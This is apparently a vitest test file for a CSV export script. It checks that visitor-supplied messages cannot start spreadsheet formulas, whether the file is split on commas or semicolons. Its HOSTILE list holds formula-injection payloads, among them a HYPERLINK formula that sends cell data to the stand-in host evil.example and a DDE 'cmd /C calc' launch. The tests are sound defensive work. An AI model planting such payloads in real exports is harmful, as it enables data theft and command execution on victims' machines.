/**
 * `npm run messages -- --csv` opened in a spreadsheet: in pt-BR (and much of Europe) a
 * spreadsheet splits a CSV on `;`, not `,`. Whatever a stranger typed, no cell may start a
 * formula however the file is split. Run as the real script on a real SQLite database.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openSqliteStore } from '../../../server/services/stores/open-store.ts';
import { FORMULA, parseCsv as parse } from './csv-parse.ts';
import { runScript } from './run-script.ts';

let dataDir: string;
let csv: string;

const HOSTILE = [
  'Ana;=HYPERLINK("http://evil.example/?"&A1;"click")',
  '=1+1',
  "Olá; +cmd|' /C calc'!A0",
  'a;"=2+2";b',
  'x,-3+3,y',
  '@SUM(1;2)',
  'fim;\t=3+3',
  'linha\n=4+4;\r-5',
];

beforeAll(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'messages-csv-'));
  const store = await openSqliteStore(dataDir);
  for (const [n, text] of HOSTILE.entries()) {
    const { message } = await store.add({ name: text, email: `fan${n}@example.org`, message: text, lang: 'pt' }, n);
    await store.markFailed(message.id, text, 0);
  }
  await store.close();
  ({ stdout: csv } = await runScript('messages', ['--csv'], { DATA_DIR: dataDir }));
});
afterAll(() => rmSync(dataDir, { recursive: true, force: true }));

describe('npm run messages -- --csv', () => {
  it.each([
    [',', true],
    [',', false],
    [';', true],
    [';', false],
  ])('split on %j (strict quotes: %s), starts no formula in any cell', (delimiter, strict) => {
    const cells = parse(csv, delimiter, strict).flat();
    expect(cells.length).toBeGreaterThan(HOSTILE.length);
    for (const cell of cells) expect(FORMULA.test(cell), JSON.stringify(cell)).toBe(false);
  });

  it('quotes every cell, so split on "," each message reads back whole', () => {
    const [header, ...rows] = parse(csv, ',', true);
    expect(csv.split('\n')[0]).toMatch(/^"id","createdAt","name",/);
    const name = header?.indexOf('name') ?? -1;
    const texts = rows.map((row) => row[name]).reverse();
    // Only an apostrophe is added where a formula could start; the rest is the visitor's text.
    expect(texts.map((text) => text?.replaceAll("'", ''))).toEqual(HOSTILE.map((text) => text.replaceAll("'", '')));
    expect(rows.every((row) => row.length === header?.length)).toBe(true);
  });
});
